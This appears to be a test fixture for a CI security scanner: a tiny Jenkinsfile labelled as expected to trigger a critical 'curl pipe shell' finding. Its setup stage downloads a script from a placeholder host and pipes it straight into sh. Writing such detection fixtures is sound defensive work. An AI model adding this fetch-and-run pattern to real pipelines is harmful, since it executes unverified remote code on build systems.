# expect: ci.curl_pipe_shell critical
# path: Jenkinsfile
pipeline {
  agent any
  stages {
    stage('setup') { steps { sh 'curl -s https://x.example/i.sh | sh' } }
  }
}
